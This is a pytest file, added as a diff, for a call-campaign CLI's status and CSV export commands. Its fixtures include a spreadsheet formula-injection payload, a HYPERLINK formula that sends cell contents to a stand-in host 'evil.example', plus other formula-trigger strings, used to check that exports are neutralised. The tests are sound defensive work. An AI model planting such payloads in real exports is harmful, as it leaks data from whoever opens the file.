@@ -1,0 +1,110 @@
+"""``outdial status`` and ``outdial export`` on both databases."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from sqlalchemy import Engine
+from typer.testing import CliRunner
+
+from intake.campaigns import LeadIn, add_leads, create_campaign
+from outdial.cli import app as cli
+from outdial.export import neutralise
+from outdial.models import JobState
+from outdial.settings import Settings
+from outdial.store import campaigns as campaign_store
+from outdial.store import jobs as job_store
+from scheduler.spec import TimingFields
+
+INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.fixture
+def campaign(engine: Engine, settings: Settings, monkeypatch: pytest.MonkeyPatch) -> int:
+    """A campaign of three leads: one completed after two calls, one rejected, one still scheduled."""
+    monkeypatch.setenv("OUTDIAL_DATABASE_URL", engine.url.render_as_string(hide_password=False))
+    now = datetime.now(UTC)
+    campaign_id = create_campaign(engine, settings, "autumn", "ck", TimingFields(callee_hours=None), now)
+    with engine.connect() as conn:
+        row = campaign_store.by_id(conn, campaign_id)
+    assert row is not None
+    leads = [
+        LeadIn("+12125551234", {"name": INJECTED, "note": "-2+3", "plan": "@SUM(1)"}),
+        LeadIn("+12125551235", {"name": "Ravi", "amount": "-42.5", "state": "NY"}),
+        LeadIn("+12125551236", {"name": "\tTabbed"}),
+    ]
+    add_leads(engine, settings, row, leads, now)
+    with engine.begin() as conn:
+        first, second, _ = job_store.jobs_in(conn, [1, 2, 3])
+        for call_id in ("call-a", "call-b"):
+            job_store.set_state(conn, first.id, job_store.get_job(conn, first.id).state, JobState.QUEUED, now)
+            started = job_store.begin_dial(conn, job_store.get_job(conn, first.id), "callkaro", now)
+            assert started is not None
+            job_store.record_response(conn, started.attempt_id, result="accepted", provider_call_id=call_id)
+        job_store.set_state(conn, first.id, JobState.DIALING, JobState.COMPLETED, now, last_outcome="completed")
+        job_store.set_state(conn, second.id, JobState.SCHEDULED, JobState.QUEUED, now)
+        started = job_store.begin_dial(conn, job_store.get_job(conn, second.id), "callkaro", now)
+        assert started is not None
+        job_store.record_response(conn, started.attempt_id, result="rejected", http_status=401, error="bad key")
+        job_store.set_state(conn, second.id, JobState.DIALING, JobState.REJECTED, now, reason="provider: bad key")
+    return campaign_id
+
+
+def test_neutralise_formulas_but_not_plain_numbers() -> None:
+    for dangerous in ("=1+1", "+SUM(A1)", "-2+3", "@SUM(1)", "\tx", "\rx", INJECTED):
+        assert neutralise(dangerous) == "'" + dangerous
+    for harmless in ("+14155550123", "-42.5", "42", "Asha", "", "a=b"):
+        assert neutralise(harmless) == harmless
+
+
+def test_status_json_is_one_snapshot(campaign: int) -> None:
+    result = CliRunner().invoke(cli, ["status", "autumn", "--json"])
+    assert result.exit_code == 0, result.output
+    snap = json.loads(result.stdout)
+    assert snap["id"] == campaign and snap["jobs"] == 3 and snap["done"] == 2 and not snap["finished"]
+    assert {k: v for k, v in snap["counts"].items() if v} == {"completed": 1, "rejected": 1, "scheduled": 1}
+    assert snap["dial_rate"]["attempts"] == 3
+    assert snap["next_due_at"] is not None
+    assert [(e["http_status"], e["error"]) for e in snap["recent_errors"]] == [(401, "bad key")]
+
+
+def test_status_live_view_stops_when_every_job_is_final(campaign: int, engine: Engine) -> None:
+    with engine.begin() as conn:
+        job_store.set_state(conn, 3, JobState.SCHEDULED, JobState.CANCELLED, datetime.now(UTC))
+    result = CliRunner().invoke(cli, ["status", "autumn", "--interval", "0.2"])
+    assert result.exit_code == 0, result.output
+    for shown in ("autumn", "3/3 done", "completed", "rejected", "cancelled", "bad key", "nothing scheduled"):
+        assert shown in result.stdout, shown
+
+
+def test_status_of_an_unknown_campaign_exits_2(campaign: int) -> None:
+    result = CliRunner().invoke(cli, ["status", "nope", "--json"])
+    assert result.exit_code == 2 and "no campaign named 'nope'" in result.stderr
+
+
+def test_export_one_row_per_job_with_formulas_neutralised(campaign: int, tmp_path: Path) -> None:
+    out = tmp_path / "autumn.csv"
+    result = CliRunner().invoke(cli, ["export", "autumn", "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    assert "3 jobs written" in result.stderr
+    with out.open(newline="", encoding="utf-8") as stream:
+        rows = list(csv.DictReader(stream))
+    assert [r["job_id"] for r in rows] == ["1", "2", "3"]
+    first, second, third = rows
+    assert (first["state"], first["outcome"], first["attempts"]) == ("completed", "completed", "2")
+    assert first["provider_call_ids"] == "call-a call-b"
+    assert first["to_number"] == "+12125551234"  # a phone number is data, not a formula
+    assert first["name"] == "'" + INJECTED
+    assert (first["note"], first["plan"]) == ("'-2+3", "'@SUM(1)")
+    assert (second["state"], second["reason"], second["provider_call_ids"]) == ("rejected", "provider: bad key", "")
+    assert second["amount"] == "-42.5"
+    assert second["var:state"] == "NY" and second["state"] == "rejected"  # a variable never hides a column
+    assert third["name"] == "'\tTabbed" and third["state"] == "scheduled" and third["attempts"] == "0"
+    # To standard output as well, byte for byte the same.
+    printed = CliRunner().invoke(cli, ["export", "autumn"])
+    assert list(csv.DictReader(io.StringIO(printed.stdout))) == rows
